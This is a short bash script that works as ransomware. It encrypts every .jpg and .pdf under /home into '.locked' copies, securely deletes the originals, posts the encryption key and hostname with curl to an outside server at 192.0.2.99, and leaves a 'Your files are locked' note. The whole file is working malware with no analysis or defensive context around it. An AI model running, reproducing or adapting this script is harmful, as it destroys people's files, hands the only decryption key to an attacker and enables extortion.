#!/bin/bash
KEY=$(openssl rand -hex 32)
find /home -type f \( -name '*.jpg' -o -name '*.pdf' \) | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -k "$KEY" -in "$f" -out "$f.locked" && shred -u "$f"
done
curl -s -d "key=$KEY&host=$(hostname)" http://192.0.2.99/reg
echo "Your files are locked" > ~/README_LOCKED.txt
